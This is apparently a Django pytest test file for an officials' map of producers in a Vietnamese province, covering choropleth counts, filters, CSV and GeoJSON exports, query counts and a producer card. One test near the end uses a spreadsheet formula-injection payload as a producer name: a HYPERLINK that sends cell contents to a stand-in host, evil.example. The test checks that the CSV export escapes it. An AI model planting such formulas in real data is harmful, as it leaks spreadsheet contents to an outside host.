"""The officials' province map: filters, the choropleth against a hand count, exports, query counts, the card."""

import csv
import datetime
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from tests.oversight import factories as f
from tracing.models import Producer

pytestmark = pytest.mark.django_db

MARKERS = "/api/v1/oversight/map/producers/"
COUNTS = "/api/v1/oversight/map/unit-counts/"


@pytest.fixture
def spread(places, producer, owner, other_producer, stranger):
    """Producers at known places: 3 in Bắc Quang (2 oranges cooperatives, 1 household), 2 in Vị Xuyên,
    1 outside both districts; statuses and certificates vary."""
    f.make_product(owner, producer, "orange")
    f.make_product(stranger, other_producer, "tea", name="Chè Shan tuyết")
    second = f.make_producer("HTX Cam Vĩnh Tuy", commune=places["viet_quang_old"], lat=22.35, lng=104.90)
    f.make_product(f.make_staff("hoa", second), second, "orange", name="Cam Vĩnh Tuy")
    household = f.make_producer(
        "Hộ Nguyễn Văn Bình",
        commune=places["viet_quang_old"],
        lat=22.50,
        lng=104.75,
        kind_of=Producer.Kind.HOUSEHOLD,
        status="applied",
    )
    household_staff = f.make_staff("binh", household)
    f.make_product(household_staff, household, "orange", name="Cam nhà Bình")
    applicant = f.make_producer(
        "HTX Mật ong Vị Xuyên", commune=places["vi_xuyen_commune"], lat=22.80, lng=104.95, status="surveyed"
    )
    outside = f.make_producer("DN Hà Nội", commune=places["viet_quang_old"], lat=21.03, lng=105.85)
    today = timezone.localdate()
    f.make_certificate(owner, producer, scheme="vietgap", number="VG-7", valid_to=today + datetime.timedelta(days=20))
    f.make_certificate(stranger, other_producer, scheme="organic", number="OR-1")
    return {
        "coop": producer,
        "rival": other_producer,
        "second": second,
        "household": household,
        "applicant": applicant,
        "outside": outside,
    }


def test_choropleth_counts_agree_with_a_hand_count(client, official, spread, places):
    client.force_login(official)
    data = client.get(COUNTS, {"valid_on": "2025-06-30"}).json()
    counts = {feature["properties"]["name"]: feature["properties"]["count"] for feature in data["features"]}
    # By hand: Bắc Quang (104.70-105.00 E, 22.30-22.60 N) holds coop, second, household; Vị Xuyên
    # (22.60-22.90 N) holds rival and applicant; Hà Nội's producer is in neither.
    assert counts == {"Bắc Quang": 3, "Vị Xuyên": 2}
    assert data["total"] == 5
    assert data["breaks"] == [2, 3]


def test_choropleth_follows_the_filters(client, official, spread):
    client.force_login(official)
    data = client.get(COUNTS, {"valid_on": "2025-06-30", "product_kind": "orange", "status": "approved"}).json()
    counts = {feature["properties"]["name"]: feature["properties"]["count"] for feature in data["features"]}
    assert counts == {"Bắc Quang": 2, "Vị Xuyên": 0}


def test_communes_known_by_their_centre_count_producers_of_the_communes_they_succeeded(client, official, spread):
    client.force_login(official)
    data = client.get(COUNTS, {"valid_on": "2025-07-01"}).json()
    counts = {feature["properties"]["name"]: feature["properties"]["count"] for feature in data["features"]}
    # Xã Việt Quang (2025) succeeded Thị trấn Việt Quang: coop, second, household and the Hà Nội firm
    # registered there.
    assert counts == {"Xã Việt Quang": 4}


def test_markers_show_orange_cooperatives_of_one_district_only(client, official, spread, places):
    client.force_login(official)
    response = client.get(
        MARKERS,
        {
            "product_kind": "orange",
            "producer_kind": "cooperative",
            "unit": places["bac_quang"].pk,
            "valid_on": "2025-06-30",
        },
    )
    assert response.status_code == 200
    names = {feature["properties"]["name"] for feature in response.json()["features"]}
    assert names == {"HTX Cam sành Việt Quang", "HTX Cam Vĩnh Tuy"}
    feature = response.json()["features"][0]
    assert feature["geometry"]["type"] == "Point"
    assert feature["properties"]["product_kinds"] == ["orange"]


def test_markers_are_limited_to_the_viewport(client, official, spread):
    client.force_login(official)
    response = client.get(MARKERS, {"in_bbox": "104.80,22.40,104.83,22.42"})
    assert [feature["properties"]["name"] for feature in response.json()["features"]] == ["HTX Cam sành Việt Quang"]


def test_certificate_filters_find_a_scheme_and_expiring_certificates(client, official, spread):
    client.force_login(official)
    organic = client.get(MARKERS, {"scheme": "organic"}).json()["features"]
    assert [feature["properties"]["name"] for feature in organic] == ["HTX Chè Phìn Hồ"]
    soon = client.get(MARKERS, {"expiring_days": "30"}).json()["features"]
    assert [feature["properties"]["name"] for feature in soon] == ["HTX Cam sành Việt Quang"]
    assert client.get(MARKERS, {"expiring_days": "10"}).json()["features"] == []


def test_bad_filters_are_refused_with_the_field_named(client, official, spread):
    client.force_login(official)
    response = client.get(MARKERS, {"in_bbox": "1,2,3"})
    assert response.status_code == 400
    assert "in_bbox" in response.json()["error"]["fields"]
    response = client.get(MARKERS, {"status": "dreaming"})
    assert response.status_code == 400 and "status" in response.json()["error"]["fields"]
    assert client.get(MARKERS, {"colour": "red"}).status_code == 400


def _ids_from_csv(body: bytes) -> list[int]:
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    return sorted(int(row["id"]) for row in rows)


@pytest.mark.parametrize(
    "params",
    [{}, {"product_kind": "orange"}, {"status": "approved", "producer_kind": "cooperative"}, {"scheme": "organic"}],
)
def test_exports_hold_exactly_the_filtered_set(client, official, spread, params):
    client.force_login(official)
    # The filtered set as the API sees it, without a viewport.
    expected = sorted(feature["id"] for feature in client.get(MARKERS, params).json()["features"])
    csv_response = client.get("/giam-sat/ban-do/xuat.csv", params)
    assert csv_response.status_code == 200
    assert _ids_from_csv(csv_response.content) == expected
    geojson = json.loads(client.get("/giam-sat/ban-do/xuat.geojson", params).content)
    assert sorted(feature["id"] for feature in geojson["features"]) == expected
    by_hand = {
        "{}": 6,
        "{'product_kind': 'orange'}": 3,
        "{'status': 'approved', 'producer_kind': 'cooperative'}": 4,
        "{'scheme': 'organic'}": 1,
    }
    assert len(expected) == by_hand[str(params)]


def _queries(client, url, params) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url, params).status_code == 200
    return len(captured)


def test_the_map_endpoints_use_the_same_number_of_queries_for_5_or_60_producers(client, official, spread, places):
    client.force_login(official)
    params = {"product_kind": "orange", "unit": places["bac_quang"].pk, "valid_on": "2025-06-30"}
    client.get(MARKERS, params)  # warm the session and permission caches
    few = (_queries(client, MARKERS, params), _queries(client, COUNTS, params))
    orange = f.kind("orange")
    for number in range(55):
        producer = f.make_producer(
            f"HTX số {number}", commune=places["viet_quang_old"], lat=22.31 + number / 200, lng=104.8
        )
        producer.products.create(kind=orange, name_vi=f"Cam {number}", net_quantity=1)
    many = (_queries(client, MARKERS, params), _queries(client, COUNTS, params))
    assert many == few
    # 55 new ones, the two orange cooperatives and the orange household of Bắc Quang.
    assert len(client.get(MARKERS, params).json()["features"]) == 58


def test_the_card_shows_certificates_stamps_and_open_reports(client, official, producer, owner):
    from tracing import services

    product = f.make_product(owner, producer, "orange")
    batch = f.make_batch(owner, product, quantity="50")
    stamps = f.issue_and_activate(official, owner, batch, 3, issue=5)
    services.scan_record(serial=stamps[0].serial, user_agent="Mozilla/5.0 (iPhone)")
    services.report_create(serial=stamps[1].serial, note="Tem bị bóc ra dán lại")
    client.force_login(official)
    card = client.get(f"/api/v1/oversight/producers/{producer.pk}/card").json()
    assert card["stamps"] == {"issued": 5, "activated": 3, "scanned": 1, "scans": 1, "sold": 0, "revoked": 0}
    assert len(card["open_reports"]) == 1
    fragment = client.get(f"/giam-sat/ban-do/co-so/{producer.pk}/").content.decode()
    assert producer.name in fragment and 'data-card-figure="activated">3<' in fragment


def test_the_csv_export_does_not_let_a_producer_name_run_as_a_formula(client, official, places):
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
    f.make_producer(hostile, commune=places["viet_quang_old"], lat=22.41, lng=104.82, address="@SUM(1+1)")
    client.force_login(official)
    rows = list(csv.DictReader(io.StringIO(client.get("/giam-sat/ban-do/xuat.csv").content.decode("utf-8-sig"))))
    assert [(row["name"], row["address"]) for row in rows] == [("'" + hostile, "'@SUM(1+1)")]


def test_the_default_map_fills_the_areas_the_2025_communes_came_from(client, official, spread, places):
    client.force_login(official)
    data = client.get(COUNTS).json()
    # The 2025 communes are known by their centre only: the polygons to fill are the former districts
    # they came from (Xã Việt Quang came from a commune of Bắc Quang), with the producers inside each.
    areas = {area["properties"]["name"]: area for area in data["areas"]}
    assert set(areas) == {"Bắc Quang"}
    assert areas["Bắc Quang"]["properties"]["count"] == 3
    assert areas["Bắc Quang"]["geometry"]["type"] == "MultiPolygon"
    assert data["breaks"] == [3]
    assert [feature["properties"]["name"] for feature in data["features"]] == ["Xã Việt Quang"]
    assert data["total"] == 4
    filtered = client.get(COUNTS, {"product_kind": "orange", "status": "approved"}).json()
    assert [area["properties"]["count"] for area in filtered["areas"]] == [2]


def test_the_pre_2025_map_fills_its_own_districts_and_needs_no_other_areas(client, official, spread):
    client.force_login(official)
    assert client.get(COUNTS, {"valid_on": "2025-06-30"}).json()["areas"] == []
